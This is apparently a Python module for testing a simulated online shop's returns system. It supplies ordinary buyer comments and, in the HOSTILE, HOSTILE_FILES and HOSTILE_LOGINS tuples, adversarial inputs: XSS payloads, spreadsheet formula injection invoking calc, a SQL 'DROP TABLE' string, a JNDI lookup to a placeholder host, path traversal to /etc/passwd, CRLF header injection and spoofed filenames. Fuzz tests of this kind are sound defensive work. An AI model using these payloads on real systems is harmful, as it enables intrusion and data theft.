"""What people write in the simulated shop: plain words, or words meant to break what shows them."""

from __future__ import annotations

from dataclasses import dataclass

from .odds import Dice

COMMENTS: dict[str, tuple[str, ...]] = {
    "DEFECTIVE_ITEM": (
        "Does not turn on. Tried 3 outlets.",
        "Stopped working after 2 days :(",
        "Left side has no sound & the case won't charge",
        "Funktioniert nicht, größte Enttäuschung",
    ),
    "NOT_AS_DESCRIBED": (
        "Colour is nothing like the photo",
        'Listing said "new", this is clearly used',
        "Size on the label < size in the listing",
        "Pas du tout comme décrit",
    ),
    "ARRIVED_DAMAGED": (
        "Box was crushed, item broken",
        "Kam zerbrochen an, schade",
        "Cracked along the edge 😢",
    ),
    "MISSING_PARTS": ("Only 5 of 6 in the box", "Charger & manual missing"),
    "ORDERED_WRONG_ITEM": ("Wrong part for my car, my mistake", "I needed the other model"),
    "WRONG_SIZE": ("Too small", "Runs large, need one size down", "小さすぎました"),
    "NO_LONGER_NEED_ITEM": ("No longer needed", "Got one as a gift", "Changed my mind, sorry!"),
    "DOES_NOT_FIT": ("Does not fit my 2014 model", "Passt nicht"),
    "FOUND_BETTER_PRICE": ("Found it for $9.99 elsewhere", "Cheaper at the store: $5 vs $12"),
    "ORDERED_ACCIDENTALLY": ("Bought twice by accident",),
    "FAKE_OR_COUNTERFEIT": ("The logo is wrong, this is not genuine",),
    "ARRIVED_LATE": ("Came two weeks late, I don't need it now",),
    "INR": (
        "Where is my parcel?",
        "Tracking has not moved for 10 days",
        "Paket nie angekommen",
        "It says delivered & nobody here has it 📦",
    ),
}

# What is written on the way; the key says when.
NOTES = {
    "photo_wanted": "Could you send a photo?",
    "photo_sent": "Sure, see above",
    "declined": "Our policy gives 30 days & this is later.",
    "used": "The item came back used.",
    "keeps": "I'll keep it after all",
    "settled": "Seller & I sorted it out",
    "fixed": "Fixed it myself <solved>",
    "sorry": "Sorry about that, we are asking the carrier.",
    "nothing": "Still nothing here.",
    "came": "It came today, thank you!",
}

HOSTILE = (
    "<script>alert('postorder')</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>'`",
    "</td></tr></table><h1>over</h1><!--",
    "</script><script>window.top.location='https://example.invalid'</script>",
    "[click](javascript:alert(1)) ![x](https://example.invalid/x.png)",
    '=HYPERLINK("https://example.invalid","refund")',
    "+1+1|cmd' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "$\\frac{1}{0}$ and $5 or $10 and \\$",
    "$x_{1}^{2$",
    "\\input{/etc/passwd} ${jndi:ldap://example.invalid} {{7*7}} {0.__class__} %s%n",
    "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "bell \x07 backspace \x08\x08 null \x00 delete \x7f vertical \x0b feed \x0c escape \x1b",
    "c1 \x80\x85\x9f end",
    "line\nbreak\r\nHeader: injected\r\n\r\nbody",
    "separators \u2028 and \u2029 and \u0085",
    "right to left \u202egpj.exe\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\u200djoiner\ufeff mark",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349a\u0347l\u0344g\u0353o",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062",
    "'; DROP TABLE returns; --",
    '{"state": "CLOSED", "refund": null}',
    "]]><!CDATA[ &amp; &#60;b&#62; &lt;i&gt; &nbsp;",
    "../../../../etc/passwd",
    "NaN",
    "null",
    "",
    " ",
    "1e999",
    "2026-13-45T99:99:99Z",
    "W" * 8192,
    "word " * 4000,
)
"""Texts that break careless readers. No lone surrogates: those cannot be sent as UTF-8 at all."""

HOSTILE_FILES = (
    "../../../etc/cron.d/x.jpg", "C:\\windows\\system32\\x.png", "photo\u202egpj.exe", "a\nb.jpg",
    "<img src=x onerror=alert(1)>.jpg", "=cmd|' /C calc'!A0.png", "CON.jpg", ".",
    "x" * 300 + ".jpg", "nul\x00.jpg", 'quo"te\'s.jpg', "\x1b[31m.png",
)  # fmt: skip

# A login travels in the head of a request: printable ASCII without spaces, `#` and `^`.
HOSTILE_LOGINS = (
    "<b>bold</b>", "=1+1", "-2+3", "+7", "@sum(a1:a9)", "$x_1$", "%00%0d%0a", "..;/", "null", "NaN",
    "true", "0123", "1e9", "';--", "{{7*7}}", "&amp;", "a" * 60,
)  # fmt: skip


@dataclass(frozen=True)
class Texts:
    """
    Where free text comes from: from what people write, or from what is meant to do harm.

    Where there are `hostile` texts these are written everywhere: comments, messages, titles,
    names, streets. `files` are names of files, `logins` stems of logins.
    """

    hostile: tuple[str, ...] = ()
    files: tuple[str, ...] = ()
    logins: tuple[str, ...] = ()

    def comment(self, dice: Dice, topic: str) -> str | None:
        """Draw what a buyer writes on `topic`; some write nothing."""
        texts = self.hostile or COMMENTS.get(topic)
        return str(dice.choice(texts)) if texts and dice.chance(0.85) else None

    def note(self, dice: Dice, moment: str) -> str:
        """Return what is written at a moment of a story."""
        return str(dice.choice(self.hostile)) if self.hostile else NOTES[moment]

    def file(self, dice: Dice, name: str) -> str:
        """Return the name of a file."""
        return str(dice.choice(self.files)) if self.files else name

    def said(self, number: int, plain: str) -> str:
        """Return a text that stays the same for the same number, such as a title or a name."""
        return self.hostile[number % len(self.hostile)] if self.hostile else plain


PLAIN = Texts()
ADVERSARIAL = Texts(HOSTILE, HOSTILE_FILES, HOSTILE_LOGINS)

__all__ = ["ADVERSARIAL", "COMMENTS", "HOSTILE", "NOTES", "PLAIN", "Texts"]
